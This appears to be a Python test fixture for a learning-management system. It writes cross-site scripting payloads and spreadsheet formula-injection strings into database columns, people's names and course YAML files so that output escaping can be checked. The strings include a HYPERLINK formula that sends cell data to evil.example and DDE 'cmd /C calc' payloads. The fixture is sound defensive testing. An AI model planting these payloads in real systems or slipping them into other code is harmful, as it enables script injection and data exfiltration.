"""Scripts and formulas written into everything that can be written, past every check at the door."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Any

from lms.store.database import Tx

MARK = "bẫy-7"
SCRIPT = (
    f'{MARK}"\'><img src=x onerror="window.boom=1"><svg/onload=window.boom=2><script>window.boom=3</script>'
    '<a href="javascript:window.boom=4">a</a><iframe srcdoc="<script>parent.boom=5</script>"></iframe>'
    "[b](javascript:window.boom=6) ![c](x) <style>body{display:none}</style> {{7*7}} ${7*7} :red[x]"
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Lan")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
COURSES = Path(__file__).resolve().parents[2] / "courses"

# table → columns of what somebody typed, somewhere, at some time.
TYPED = {
    "people": ("village", "position", "qualification"),
    "memberships": ("note", "legal_fields", "village", "team", "decision_number"),
    "org_units": ("name",),
    "cohorts": ("title",),
    "sessions": ("title", "place"),
    "imports": ("file_name",),
    "audit": ("reason",),
    "attendance": ("reason",),
    "sign_ins": ("device",),
    "certificate_events": ("reason",),
}
_TEXTS = {"title", "text", "explanation", "summary", "objective", "markdown", "body", "note", "name"}


def write_store(tx: Tx) -> None:
    columns = {(row[0], row[1]) for row in tx.all("SELECT table_name, column_name FROM duckdb_columns()")}
    for table, names in TYPED.items():
        for name in names:
            if (table, name) in columns:
                tx.run(f'UPDATE {table} SET "{name}" = coalesce("{name}", \'\') || $1', SCRIPT)
    people = [row[0] for row in tx.all("SELECT id FROM people ORDER BY id")]
    for number, person_id in enumerate(people):
        if number % 2:
            formula = FORMULAS[number // 2 % len(FORMULAS)]
            tx.run("UPDATE people SET full_name = $1 || ' ' || full_name WHERE id = $2", formula, person_id)
        else:
            tx.run("UPDATE people SET full_name = full_name || $1 WHERE id = $2", SCRIPT, person_id)
    for course_id, version, content in tx.all("SELECT course_id, version, content FROM course_versions"):
        tx.run(
            "UPDATE course_versions SET content = $1 WHERE course_id = $2 AND version = $3",
            json.dumps(_poisoned(json.loads(content)), ensure_ascii=False),
            course_id,
            version,
        )


def _poisoned(value: Any) -> Any:
    if isinstance(value, dict):
        return {
            key: f"{inner} {SCRIPT}" if key in _TEXTS and isinstance(inner, str) else _poisoned(inner)
            for key, inner in value.items()
        }
    return [_poisoned(inner) for inner in value] if isinstance(value, list) else value


def write_courses(folder: Path) -> Path:
    """Our courses with scripts in titles, questions, choices and reasons."""
    shutil.copytree(COURSES, folder, dirs_exist_ok=True)
    for file in folder.rglob("*.yaml"):
        if file.name in ("quiz.yaml", "course.yaml", "module.yaml"):
            text = file.read_text("utf-8")
            file.write_text(re.sub(r"(?m)^(\s*(?:- )?(?:title|text): )(.+)$", _quoted, text), "utf-8")
    return folder


def _quoted(found: re.Match[str]) -> str:
    return found[1] + json.dumps(f"{found[2]} {SCRIPT}", ensure_ascii=False)
